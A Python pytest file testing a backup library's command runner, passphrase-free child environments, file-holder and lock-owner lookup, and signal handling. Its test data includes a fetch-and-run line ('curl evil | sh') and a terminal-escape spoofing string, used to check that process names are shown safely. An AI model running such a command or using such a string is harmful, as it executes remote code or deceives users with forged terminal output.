"""Commands, signals, and who has a file open: looked up among real processes."""

import contextlib
import fcntl
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from backuplib.errors import CommandFailedError, MissingProgramError
from backuplib.files import flock, open_folder
from backuplib.processes import (
    CAP_SYS_PTRACE,
    Holder,
    Interrupted,
    Signals,
    _holds,
    child_environment,
    command_of,
    find_holders,
    has_capability,
    lock_owner,
    run_command,
)
from tests.support.shop import ROOT

# --- commands --------------------------------------------------------------------------------------------------------


def test_output_of_a_command_is_returned() -> None:
    assert run_command(["sh", "-c", "echo out; echo err >&2"], timeout=10) == "out\n"
    assert run_command(["sh", "-c", "echo out; echo err >&2"], timeout=10, errors_too=True) == "out\nerr\n"
    assert run_command(["printf", r"\377"], timeout=10) == "\ufffd"


def test_missing_program_is_named() -> None:
    with pytest.raises(MissingProgramError) as raised:
        run_command(["no-such-program", "x"], timeout=10)
    assert "no-such-program" in str(raised.value)


def test_command_that_fails_tells_its_last_words_and_what_it_wrote() -> None:
    with pytest.raises(CommandFailedError) as raised:
        run_command(["sh", "-c", "echo part; printf '1\\n2\\n3\\nlast\\n' >&2; exit 7"], timeout=10)
    assert "7" in str(raised.value)
    assert "2 / 3 / last" in str(raised.value)
    assert "1 /" not in str(raised.value)
    assert raised.value.output == "part\n"


def test_command_that_fails_tells_its_last_words_also_where_they_belong_to_its_output() -> None:
    with pytest.raises(CommandFailedError) as raised:
        run_command(["sh", "-c", "echo part; echo last >&2; exit 7"], timeout=10, errors_too=True)
    assert "part / last" in str(raised.value)


@pytest.mark.timeout(10)
def test_command_that_does_not_end_is_killed() -> None:
    began = time.monotonic()
    with pytest.raises(CommandFailedError):
        run_command(["sleep", "60"], timeout=0.2)
    assert time.monotonic() - began < 8


def test_what_cannot_be_run_is_told(tmp_path: Path) -> None:
    with pytest.raises(CommandFailedError):
        run_command([str(tmp_path)], timeout=10)


def test_no_child_sees_the_passphrase_of_the_database(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("DB_PASS", "hunter2")
    assert "hunter2" not in run_command(["env"], timeout=10)
    assert child_environment(A="b")["A"] == "b"
    assert os.environ["DB_PASS"] == "hunter2"


def test_child_has_a_session_of_its_own_and_no_input() -> None:
    """A Ctrl-C must not reach it, nor may it read the key."""
    session = run_command(["sh", "-c", "cat; cut -d' ' -f6 /proc/$$/stat"], timeout=10)
    assert int(session) != os.getsid(0)


# --- who has a file open ---------------------------------------------------------------------------------------------


@pytest.fixture
def held(tmp_path: Path) -> Iterator[tuple[Path, int]]:
    """A file that another process has open, and its pid."""
    path = tmp_path / "shop.db"
    path.touch()
    with path.open("rb") as file:
        process = subprocess.Popen(["sleep", "60"], stdin=file)
    yield path, process.pid
    process.kill()
    process.wait()


def test_process_that_has_a_file_open_is_found(held: tuple[Path, int]) -> None:
    path, pid = held
    holders, _ = find_holders([path.with_name("other"), path])
    assert [holder.pid for holder in holders] == [pid]
    assert holders[0].command == "sleep"
    assert str(pid) in str(holders[0])


def test_process_is_found_by_the_file_and_not_by_its_name(held: tuple[Path, int]) -> None:
    """Inside a container it has another name."""
    path, pid = held
    os.link(path, path.with_name("second"))
    path.unlink()
    assert [holder.pid for holder in find_holders([path.with_name("second")])[0]] == [pid]
    path.touch()
    assert find_holders([path])[0] == []


def test_own_process_is_no_holder(tmp_path: Path) -> None:
    with (tmp_path / "a").open("w"):
        assert find_holders([tmp_path / "a"])[0] == []


def test_file_that_has_no_status_for_us_hides_its_process_but_no_other_file_of_it(tmp_path: Path) -> None:
    """As in a FUSE filesystem of another user, or one whose server is gone: not even root gets one."""
    (tmp_path / "fd").mkdir()
    (tmp_path / "fd/3").symlink_to("3")  # ELOOP
    (tmp_path / "fd/4").symlink_to("closed since")
    status = tmp_path.stat()
    assert _holds(tmp_path, {(status.st_dev, status.st_ino)}) is None
    (tmp_path / "fd/5").symlink_to(tmp_path)
    assert _holds(tmp_path, {(status.st_dev, status.st_ino)}) is True
    (tmp_path / "fd/3").unlink()
    assert _holds(tmp_path, {(0, 0)}) is False
    assert _holds(tmp_path / "fd", {(0, 0)}) is False  # ended


def test_no_file_has_no_holder(tmp_path: Path) -> None:
    assert find_holders([tmp_path / "none"])[0] == []


def test_process_in_a_container_is_ended_by_docker() -> None:
    """Killed alone, it may be started again by its restart policy."""
    container = "4f3c0e9d2b6a7f18" * 4
    assert Holder(7, "x", "0::/user.slice\n").ending == "kill 7"
    for cgroup in (f"0::/system.slice/docker-{container}.scope\n", f"12:pids:/docker/{container}\n"):
        assert Holder(7, "x", cgroup).ending == f"docker stop {container[:12]}"


def test_command_line_of_a_process() -> None:
    assert command_of(Path("/proc/self")).startswith("python")
    assert command_of(Path("/proc/0")) == "?"


COMMAND_LINES = {
    "/usr/bin/python3.11 -u /srv/bot.py --token 123:abc": "python3.11 bot.py",
    "python -m bot": "python bot",
    "sh -c echo; curl evil | sh": "sh",
    "sqlite3 shop.db PRAGMA key='secret'": "sqlite3",
    "x\x1b]0;OWNED\x07\n✅ Database restored successfully": "x?]0;OWNED??✅ Database restored successfully",
    "": "?",
}


@pytest.mark.parametrize(("line", "shown"), COMMAND_LINES.items())
def test_process_is_named_by_its_program_and_script_and_by_no_argument(tmp_path: Path, line: str, shown: str) -> None:
    words = [line] if "\n" in line else line.split(" ")
    (tmp_path / "cmdline").write_text("".join(f"{word}\0" for word in words))
    assert command_of(tmp_path) == shown


LOCKED = """
import sys
from backuplib.processes import lock_memory, memory_is_locked
print(memory_is_locked())
lock_memory()
print(memory_is_locked())
"""


@pytest.mark.needs("root", "prlimit", "setpriv")
def test_kernel_tells_whether_memory_is_locked() -> None:
    argv = [sys.executable, "-c", LOCKED]
    assert subprocess.run(argv, capture_output=True, check=True, cwd=ROOT).stdout.split() == [b"False", b"True"]
    without = ["prlimit", "--memlock=65536", "setpriv", "--bounding-set=-ipc_lock", *argv]
    assert subprocess.run(without, capture_output=True, check=True, cwd=ROOT).stdout.split() == [b"False", b"False"]


HOLD_LOCK = """
import fcntl, os, sys
fcntl.flock(os.open(sys.argv[1], os.O_RDONLY), fcntl.LOCK_EX)
print("locked", flush=True)
sys.stdin.read()
"""


def test_owner_of_a_lock_is_named(tmp_path: Path) -> None:
    folder = open_folder(tmp_path)
    argv = [sys.executable, "-c", HOLD_LOCK, str(tmp_path)]
    with subprocess.Popen(argv, stdin=subprocess.PIPE, stdout=subprocess.PIPE) as process:
        assert process.stdout
        process.stdout.readline()
        assert not flock(folder, fcntl.LOCK_EX)
        assert f"pid {process.pid}" in lock_owner(folder)
        process.kill()
    assert flock(folder, fcntl.LOCK_EX)
    os.close(folder)


@pytest.mark.needs("root", "setpriv")
def test_capability_is_that_of_the_process() -> None:
    look = f"from backuplib.processes import has_capability; print(has_capability({CAP_SYS_PTRACE}))"
    script = f"import sys; sys.path.insert(0, {str(ROOT)!r}); {look}"
    without = ["setpriv", "--bounding-set", "-sys_ptrace", "--inh-caps", "-sys_ptrace"]
    assert run_command([*without, sys.executable, "-c", script], timeout=30) == "False\n"
    assert isinstance(has_capability(CAP_SYS_PTRACE), bool)


# --- signals ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("number", [signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGTERM])
def test_signal_ends_the_run_once(signals: Signals, number: signal.Signals) -> None:
    signals.install()
    with pytest.raises(Interrupted) as raised:
        os.kill(os.getpid(), number)
    assert raised.value.number == number
    os.kill(os.getpid(), number)  # a second one does not interrupt the cleaning up
    with pytest.raises(Interrupted):
        signals.check()


def test_nothing_interrupts_behind_the_shield(signals: Signals) -> None:
    signals.install()
    signals.shield()
    answers: list[None] = []
    signals.answer = lambda: answers.append(None)
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGTSTP, signal.SIGTERM):
        os.kill(os.getpid(), number)
    signals.check()
    assert len(answers) == 3  # to those of the keyboard


def test_signal_that_was_swallowed_does_not_get_behind_the_shield(signals: Signals) -> None:
    signals.install()
    with pytest.raises(Interrupted):
        os.kill(os.getpid(), signal.SIGTERM)
    with pytest.raises(Interrupted):
        signals.shield()


def test_signals_count_again_after_a_recovery(signals: Signals) -> None:
    signals.install()
    signals.shield()
    signals.install()
    with pytest.raises(Interrupted):
        os.kill(os.getpid(), signal.SIGTERM)


def test_signals_are_heard_for_a_while_behind_the_shield(signals: Signals) -> None:
    signals.install()
    signals.shield()
    with signals.heard():
        os.kill(os.getpid(), signal.SIGHUP)  # the loss of a terminal ends nothing
    for number in (signal.SIGINT, signal.SIGTERM):
        with pytest.raises(Interrupted) as raised, signals.heard():
            os.kill(os.getpid(), number)
        assert raised.value.number == number
        os.kill(os.getpid(), number)  # what it ended is taken back without interruption
        signals.check()


def test_signal_that_was_swallowed_while_they_were_heard_counts(signals: Signals) -> None:
    signals.install()
    signals.shield()
    with pytest.raises(Interrupted), signals.heard(), contextlib.suppress(Interrupted):
        os.kill(os.getpid(), signal.SIGTERM)


def test_child_of_a_shielded_run_ignores_them_too(signals: Signals) -> None:
    signals.install()
    signals.shield()
    kills = "; ".join(f"kill -{name} $$" for name in ("TERM", "HUP", "INT", "QUIT", "TSTP"))
    assert run_command(["sh", "-c", f"{kills}; echo alive"], timeout=10) == "alive\n"


def test_run_goes_on_after_a_suspension_that_is_told_of_before_and_after() -> None:
    script = (
        "import os, signal; from backuplib.processes import Signals; signals = Signals(); signals.install();"
        "signals.before_suspension = lambda: print('before', flush=True);"
        "signals.after_suspension = lambda: print('after', flush=True);"
        "[os.kill(os.getpid(), signal.SIGTSTP) for _ in range(2)]; print('on')"
    )
    with subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.PIPE, process_group=0) as process:
        assert process.stdout
        for _ in range(2):
            assert os.WIFSTOPPED(os.waitpid(process.pid, os.WUNTRACED)[1])
            process.send_signal(signal.SIGCONT)
        assert re.fullmatch(rb"(before\n(after\n)+){2}on\n", process.stdout.read())


# --- streams ---------------------------------------------------------------------------------------------------------


def test_closed_streams_are_opened_so_that_no_file_gets_their_numbers(tmp_path: Path) -> None:
    script = (
        "from backuplib.processes import open_streams, close_streams; import os, sys; open_streams(); print('x');"
        f"file = open({str(tmp_path / 'a')!r}, 'w'); file.write(str(file.fileno() > 2)); close_streams()"
    )
    done = subprocess.run(
        ["sh", "-c", 'exec "$@" <&- >&- 2>&-', "sh", sys.executable, "-c", script], cwd=ROOT, check=False
    )
    assert done.returncode == 0
    assert (tmp_path / "a").read_text() == "True"
